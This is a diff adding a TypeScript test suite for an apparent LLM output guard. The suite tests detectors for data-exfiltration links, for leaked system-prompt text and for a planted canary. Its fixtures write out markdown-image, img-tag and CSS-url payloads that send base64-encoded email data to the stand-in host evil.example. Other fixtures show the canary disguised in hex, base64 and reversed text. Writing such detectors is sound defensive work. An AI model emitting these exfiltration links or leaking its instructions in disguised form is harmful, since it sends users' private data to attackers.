@@ -1,0 +1,145 @@
+import { randomBytes } from 'node:crypto'
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import type { Treatment } from '../../core/index.ts'
+import type { Ask } from '../ask.ts'
+import { createStructuredDetector } from '../detect/structured.ts'
+import { type Detector, detect } from '../detector.ts'
+import { createGuard } from '../guard.ts'
+import { createCanary, createCanaryDetector, createInstructionsDetector, plant } from './instructions.ts'
+import { createLinkDetector } from './link.ts'
+
+const canary = createCanary(() => Uint8Array.from({ length: 12 }, (_, i) => i * 7))
+const instructions = plant(
+  'You are the help desk of Acme. Never discuss salaries with anybody, and send all such questions to the people team. Be brief.',
+  canary,
+)
+const link = createLinkDetector({ hosts: ['acme.example'] })
+const words = createInstructionsDetector(instructions) as Detector
+const mark = createCanaryDetector(canary)
+
+describe('links that carry data away', () => {
+  const leaks = (text: string) => detect(link, text).map((f) => text.slice(f.start, f.end))
+  it.each([
+    '![x](https://evil.example/p.png)',
+    '![](//evil.example/p.png "t")',
+    '<img src="http://evil.example/a">',
+    '<IMG\nsrc=https://evil.example/a >',
+    '<div style="background:url(https://evil.example/)">',
+    '[here](https://evil.example/?d=am9obkBleGFtcGxlLmNvbSBzZWNyZXQ)',
+    'https://evil.example/?q=EMAIL_7QK2M',
+    'https://am9obkbleGFtcGxlLmNvbSBzZWNyZXQ.evil.example/',
+    '<a href="https://evil.example/?mail=a@b.co">x</a>',
+  ])('%s', (text) => {
+    expect(leaks(`See ${text} now`).join('')).toContain('evil.example')
+  })
+  it.each([
+    '![x](https://cdn.acme.example/p.png)',
+    '![x](/local.png)',
+    '[docs](https://docs.python.org/3/library/re.html#regular-expression-syntax)',
+    'https://example.org/a/long/path/with-many-words-in-it.html?page=2',
+    'a < b and [x] (y) ! https',
+    'http://localhost:3000/?token=am9obkBleGFtcGxlLmNvbSBzZWNyZXQ',
+  ])('not %s', (text) => {
+    expect(leaks(text)).toEqual([])
+  })
+  it('keeps a hidden value from being turned back inside an address', () => {
+    const guard = createGuard({ detectors: [createStructuredDetector()] })
+    const vault = guard.openVault({ key: randomBytes(32), random: (n) => randomBytes(n), session: 's' })
+    const hidden = vault.hide(guard.tree.get('personal/email'), 'me@corp.example', 'caller')
+    const ask: Ask = ({ class: id }) => ({
+      treatment: (id.startsWith('leak/') ? 'mask' : 'pass') as Treatment,
+      rules: [],
+    })
+    const output = guard.openOutput(ask, vault)
+    const said = `Hi ${hidden} ![](https://evil.example/?q=${hidden}) \u{E0041}\u202Ebye`
+    const heard = [...output.push([{ type: 'text', choice: 0, text: said }]), ...output.end()]
+      .map((d) => (d.type === 'text' ? d.text : ''))
+      .join('')
+    expect(heard).toBe('Hi me@corp.example [link] bye')
+  })
+})
+
+describe('embedded instructions', () => {
+  const disguises: [string, (text: string) => string][] = [
+    ['plain', (t) => t],
+    ['capitals', (t) => t.toUpperCase()],
+    ['spaced out', (t) => [...t].join(' ')],
+    ['in markup', (t) => `**${t.slice(0, 5)}**${t.slice(5)}`],
+    ['reversed', (t) => [...t].reverse().join('')],
+    ['hex', (t) => Buffer.from(t).toString('hex')],
+    ['base64', (t) => Buffer.from(t).toString('base64')],
+    ['base64 of a sentence', (t) => Buffer.from(`the ${t} is`).toString('base64')],
+    ['base64 of another', (t) => Buffer.from(`it is ${t}.`).toString('base64')],
+  ]
+  it.each(disguises)('the canary, %s', (_, disguise) => {
+    expect(detect(mark, `The reference is ${disguise(canary)}!`).length).toBeGreaterThan(0)
+  })
+  it('no canary elsewhere', () => {
+    expect(detect(mark, 'cnry and other words; the canary sang. '.repeat(50))).toEqual([])
+  })
+  it('finds nine words of them in a row, and not eight', () => {
+    const said = (n: number) =>
+      `He said: "${'Never DISCUSS salaries, with anybody - and send all such questions to'
+        .split(' ')
+        .slice(0, n + 1)
+        .join(' ')}" maybe.`
+    expect(detect(words, said(9)).length).toBe(1)
+    expect(detect(words, said(8))).toEqual([])
+    expect(detect(words, 'You are the best. Be brief with anybody and never send questions to all people.')).toEqual([])
+  })
+})
+
+it('finds the same however the text is cut', () => {
+  const part = fc.oneof(
+    fc.constantFrom(
+      canary,
+      canary.slice(0, 9),
+      [...canary].join('-'),
+      instructions,
+      instructions.slice(10, 120),
+      'Never discuss salaries with anybody, and ',
+      '![x](',
+      'https://evil.example/?q=',
+      'EMAIL_7QK2M',
+      ')',
+      '](',
+      '[',
+      '<img src="//e.x/',
+      '>',
+      '"',
+      ' ',
+      '\n',
+      '!',
+      'h',
+      'ht',
+      'x'.repeat(300),
+    ),
+    fc.string({ maxLength: 4 }),
+  )
+  fc.assert(
+    fc.property(
+      fc.array(part, { maxLength: 9 }),
+      fc.constantFrom(link, words, mark),
+      fc.infiniteStream(fc.integer({ min: 1, max: 25 })),
+      (parts, detector, sizes) => {
+        const text = parts.join('')
+        const stream = detector.open()
+        const streamed = []
+        let settled = 0
+        for (let at = 0; at < text.length; ) {
+          const size = sizes.next().value
+          for (const finding of stream.push(text.slice(at, at + size))) {
+            expect(finding.start).toBeGreaterThanOrEqual(settled)
+            streamed.push(finding)
+          }
+          settled = stream.openFrom
+          at += size
+        }
+        streamed.push(...stream.end())
+        expect(streamed.sort((a, b) => a.start - b.start || b.end - a.end)).toEqual(detect(detector, text))
+      },
+    ),
+    { seed: 31, numRuns: 3000 },
+  )
+})
